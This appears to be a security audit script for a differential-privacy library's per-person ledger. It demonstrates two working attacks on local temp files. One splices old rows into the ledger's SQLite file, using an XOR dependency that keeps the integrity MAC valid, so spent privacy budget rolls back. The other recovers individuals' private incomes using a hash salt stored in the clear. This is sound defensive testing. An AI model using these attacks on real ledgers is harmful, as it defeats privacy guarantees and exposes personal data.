"""Audit attacks on the individual-DP ledger (see tests/test_audit_ledger.py for reproducers).

Run: python bench/audits/attack_ledger.py
"""
from __future__ import annotations

import math
import os
import shutil
import sqlite3
import tempfile

import numpy as np

from opendp_hybridad.individual import LedgerError, LedgerParameters, PrivacyLedger


def gf2_dependent_subset(vectors: dict[int, int]) -> list[int]:
    """A non-empty subset of keys whose vectors XOR to zero (Gaussian elimination over GF(2))."""
    basis: dict[int, tuple[int, int]] = {}  # pivot bit -> (vector, mask of keys as a python set bitmask index)
    keys = list(vectors)
    for i, k in enumerate(keys):
        v, combo = vectors[k], 1 << i
        while v:
            top = v.bit_length() - 1
            if top not in basis:
                basis[top] = (v, combo)
                break
            bv, bc = basis[top]
            v ^= bv
            combo ^= bc
        else:
            return [keys[j] for j in range(len(keys)) if combo >> j & 1]
    raise RuntimeError("no dependency (fewer than 257 changed buckets?)")


def splice_rollback(path: str, old_copy: str) -> list[int]:
    """Without the key: replace a set of bucket rows by their older versions so that the XOR of
    bucket MACs (the only thing the head MAC binds them by) is unchanged."""
    old = {b: (ver, h, s, r, m) for b, ver, h, s, r, m in
           sqlite3.connect(old_copy).execute("SELECT b, ver, hashes, spent, retired, mac FROM buckets")}
    db = sqlite3.connect(path)
    cur = {b: (ver, h, s, r, m) for b, ver, h, s, r, m in
           db.execute("SELECT b, ver, hashes, spent, retired, mac FROM buckets")}
    deltas = {b: int.from_bytes(bytes(cur[b][4]), "little") ^ int.from_bytes(bytes(old[b][4]), "little")
              for b in cur if b in old and cur[b][4] != old[b][4] and len(cur[b][1]) == len(old[b][1])}
    subset = gf2_dependent_subset(deltas)
    db.executemany("UPDATE buckets SET hashes = ?, spent = ?, retired = ?, mac = ? WHERE b = ?",
                   [(old[b][1], old[b][2], old[b][3], old[b][4], b) for b in subset])
    db.commit()
    db.close()
    return subset


def xor_splice_demo(tmp: str) -> bool:
    P = LedgerParameters("gdp", 1.0)
    path = os.path.join(tmp, "l.sqlite")
    rng = np.random.default_rng(0)
    hashes = np.unique(rng.integers(1, 2**63, 2000, dtype=np.uint64))
    ledger = PrivacyLedger.create(path, P)
    a1 = ledger.charge(hashes, np.full(hashes.size, 0.25))  # query 1, released
    ledger._db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    shutil.copy(path, os.path.join(tmp, "old.sqlite"))       # attacker's copy of the data file (no key)
    a2 = ledger.charge(hashes, np.full(hashes.size, 0.7))  # query 2, released: everyone at ~0.95 of budget 1.0
    ledger.close()
    assert a1.all() and a2.all()
    subset = splice_rollback(path, os.path.join(tmp, "old.sqlite"))
    try:
        reopened = PrivacyLedger.open(path, P)
    except LedgerError as e:
        print("xor splice: refused", e)
        return False
    spent = reopened.spent(hashes)
    lowered = int((spent < 0.9).sum())
    a3 = reopened.charge(hashes, np.full(hashes.size, 0.7))
    print(f"xor splice: spliced {len(subset)} buckets; opened OK; {lowered} people show spend 0.25 < released 0.95; "
          f"a third query admits {int(a3.sum())} people (budget 1.0; each admitted person has now been released at 1.65)")
    reopened.close()
    return lowered > 0




def data_file_reveals_values(tmp: str) -> float:
    """Holding only the ledger's data file (no key file): the SipHash key ("salt") is stored in the
    clear in its meta table, so guessable ids can be hashed and looked up; their spent loss is a
    function of their own contribution, and the noise scale is in the query log in the clear."""
    import pandas as pd

    import opendp_hybridad as hd
    from opendp_hybridad.individual import IndividualFilter

    schema = hd.Schema(income=hd.Field(0, 100))
    (inc,) = schema.symbols()
    secret = np.round(np.random.default_rng(5).uniform(0, 100, 50), 6)
    df = pd.DataFrame({"income": secret, "person": np.arange(50)})
    path = os.path.join(tmp, "v.sqlite")
    flt = IndividualFilter(df, schema, kind="gdp", budget=50.0, id_column="person", ledger=path)
    flt.sum(schema.function(inc), 10.0, label="total income")
    flt.ledger.close()
    data_only = os.path.join(tmp, "handed_out.sqlite")
    shutil.copy(path, data_only)  # a data backup handed out without its key file
    db = sqlite3.connect(data_only)
    salt = dict(db.execute("SELECT key, value FROM meta"))["salt"]
    (sigma,) = db.execute("SELECT noise_scale FROM queries WHERE seq = 1").fetchone()
    table = {}
    for hb, sb in db.execute("SELECT hashes, spent FROM buckets"):
        table.update(zip(np.frombuffer(hb, np.uint64).tolist(), np.frombuffer(sb, np.float64).tolist(), strict=False))
    guesses = pd.Series([f"n:{k}" for k in range(1000)], dtype=object)
    hashed = pd.util.hash_pandas_object(guesses, index=False, hash_key=salt).to_numpy(np.uint64)
    recovered = {k: math.sqrt(table[int(h)]) * sigma for k, h in enumerate(hashed) if int(h) in table}
    err = max(abs(recovered[k] - secret[k]) for k in recovered)
    print(f"data file only: {len(recovered)} of 1000 guessed ids found in the ledger (true: 50); "
          f"their income recovered from spent*sigma to within {err:.2e} (person 7: {recovered[7]:.6f} vs {secret[7]})")
    return err


if __name__ == "__main__":
    with tempfile.TemporaryDirectory() as tmp:
        xor_splice_demo(tmp)
        data_file_reveals_values(tmp)
